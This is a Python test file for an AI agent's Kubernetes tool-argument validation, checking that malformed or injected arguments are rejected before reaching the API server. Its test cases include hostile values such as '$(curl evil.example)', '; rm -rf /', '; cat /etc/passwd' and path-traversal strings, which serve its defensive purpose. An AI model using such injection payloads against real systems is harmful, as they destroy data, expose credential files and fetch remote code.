"""Kubernetes tool arguments are validated before anything reaches the API server."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from typing import Any, cast, get_args

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent.alerts.model import Alert
from agent.audit import AuditLog
from agent.dispatch import Dispatcher
from agent.safety.redact import Redactor
from policies.decision import ToolCall
from policies.load import default_policy_path, load_policy
from tools.base import Registry, Scope, ToolContext
from tools.catalog import all_tools
from tools.clients import Backends
from tools.kube_args import (
    EventKind,
    dns1123_label,
    dns1123_subdomain,
    field_selector,
    label_selector,
)

NOW = datetime(2025, 1, 1, 12, 0, tzinfo=UTC)


class RecordingKube:
    """Stands in for the Kubernetes reader and records every method the tools touch."""

    def __init__(self) -> None:
        self.touched: list[str] = []

    def __getattr__(self, name: str) -> Any:
        self.touched.append(name)
        raise AssertionError(f"the tool reached the Kubernetes client ({name})")


def _dispatcher(kube: RecordingKube) -> Dispatcher:
    ctx = ToolContext(
        backends=Backends(kubernetes=cast(Any, kube)),
        now=NOW,
        alert=Alert(fingerprint="0" * 16, labels={"namespace": "shop"}, starts_at=NOW),
        scope=Scope(frozenset({"shop"})),
    )
    policy = load_policy(default_policy_path())
    return Dispatcher(
        Registry(all_tools()), policy, ctx, Redactor(b"k" * 32), AuditLog(None, clock=lambda: NOW)
    )


@pytest.mark.parametrize(
    ("tool", "arguments", "field"),
    [
        # The three calls from issue 10, verbatim.
        ("deployment_history", {"namespace": "shop", "name": "$(curl evil.example)"}, "name"),
        ("pod_status", {"namespace": "shop", "label_selector": "app=payments; rm -rf /"}, "label"),
        ("k8s_events", {"namespace": "shop", "kind": "Secret; cat /etc/passwd"}, "kind"),
        ("k8s_events", {"namespace": "shop", "involved_object": "a,type=Normal"}, "involved"),
        ("k8s_events", {"namespace": "shop", "types": ["Warning", "x=y"]}, "types"),
        ("pod_status", {"namespace": "shop", "workload": "../../secrets"}, "workload"),
        ("pod_status", {"namespace": "shop/../kube-system", "workload": "pay"}, "namespace"),
    ],
)
def test_invalid_kubernetes_arguments_are_returned_to_the_model_and_never_sent(
    tool: str, arguments: dict[str, Any], field: str
) -> None:
    kube = RecordingKube()
    outcome = _dispatcher(kube).dispatch(ToolCall("c1", tool, arguments))
    assert outcome.decision.rule == "args.invalid"
    assert outcome.result.status == "error"
    assert field in outcome.result.summary
    assert "correct it" in outcome.result.hints[0]
    assert kube.touched == []


@pytest.mark.parametrize(
    ("text", "canonical"),
    [
        ("app=cart", "app=cart"),
        ("app==cart, tier!=db", "app=cart,tier!=db"),
        ("app.kubernetes.io/name=cart,!canary", "app.kubernetes.io/name=cart,!canary"),
        ("env in (prod, staging),tier notin (db)", "env in (prod,staging),tier notin (db)"),
        ("pod-template-hash", "pod-template-hash"),
        ("app=", "app="),
    ],
)
def test_valid_label_selectors_parse_to_canonical_form(text: str, canonical: str) -> None:
    assert label_selector(text) == canonical


@pytest.mark.parametrize(
    "text",
    [
        "app=payments; rm -rf /",
        "app=cart,",
        "",
        "app in prod",
        "env in ()",
        "env in (a,(b))",
        "app=$(id)",
        "-app=cart",
        "app cart",
        "Bad_Prefix/app=x",
        "a" * 64 + "=x",
        "app=" + "v" * 64,
        ",".join(f"k{i}=v" for i in range(21)),
    ],
)
def test_invalid_label_selectors_are_rejected(text: str) -> None:
    with pytest.raises(ValueError, match="label"):
        label_selector(text)


@pytest.mark.parametrize("name", ["payments", "web-1", "a.b-c", "x" * 253])
def test_dns1123_subdomain_accepts_object_names(name: str) -> None:
    assert dns1123_subdomain(name) == name


@pytest.mark.parametrize(
    "name", ["", "Payments", "-web", "web-", "a_b", "a/b", "a b", "x" * 254, "$(curl x)"]
)
def test_dns1123_subdomain_rejects_other_text(name: str) -> None:
    with pytest.raises(ValueError, match="DNS-1123"):
        dns1123_subdomain(name)


def test_namespace_names_are_labels_without_dots() -> None:
    assert dns1123_label("shop") == "shop"
    for bad in ("shop.prod", "x" * 64, "Shop"):
        with pytest.raises(ValueError, match="namespace"):
            dns1123_label(bad)


def test_field_selectors_come_only_from_allowlisted_fields() -> None:
    assert field_selector({"involvedObject.kind": "Pod", "type": None}) == "involvedObject.kind=Pod"
    assert field_selector({"type": None}) is None
    with pytest.raises(ValueError, match="not allowed"):
        field_selector({"metadata.name": "x"})
    with pytest.raises(ValueError, match="event kind"):
        field_selector({"involvedObject.kind": "Secret"})


_SAFE = set("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_./=!,() ")


@given(st.text(alphabet=st.sampled_from(sorted(_SAFE | set(";$|&`'\"\\\n*"))), max_size=40))
def test_a_selector_either_fails_or_is_canonical_and_safe(text: str) -> None:
    try:
        parsed = label_selector(text)
    except ValueError:
        return
    assert set(parsed) <= _SAFE
    assert label_selector(parsed) == parsed  # canonical form is a fixed point


_TEXT = st.one_of(
    st.none(),
    st.sampled_from(["shop", "pay", "app=pay", "Pod", "Secret", "a.b", "x" * 70]),
    st.text(max_size=20),
)


@given(
    tool=st.sampled_from(["pod_status", "deployment_history", "k8s_events"]),
    values=st.fixed_dictionaries(
        {},
        optional={
            "namespace": _TEXT,
            "name": _TEXT,
            "workload": _TEXT,
            "label_selector": _TEXT,
            "involved_object": _TEXT,
            "kind": _TEXT,
        },
    ),
)
def test_kubernetes_tool_arguments_validate_into_the_grammar_or_are_rejected(
    tool: str, values: dict[str, Any]
) -> None:
    model = {t.name: t.input_model for t in all_tools()}[tool]
    arguments = {k: v for k, v in values.items() if k in model.model_fields}
    try:
        parsed = model.model_validate_json(json.dumps(arguments), strict=True)
    except ValueError:
        return
    for field in ("namespace", "name", "workload", "involved_object"):
        value = getattr(parsed, field, None)
        if value is not None:
            assert dns1123_subdomain(value) == value
            assert value == arguments[field].strip()  # validated, never rewritten into shape
    selector = getattr(parsed, "label_selector", None)
    if selector is not None:
        assert label_selector(selector) == selector
    assert getattr(parsed, "kind", None) in {None, *get_args(EventKind)}
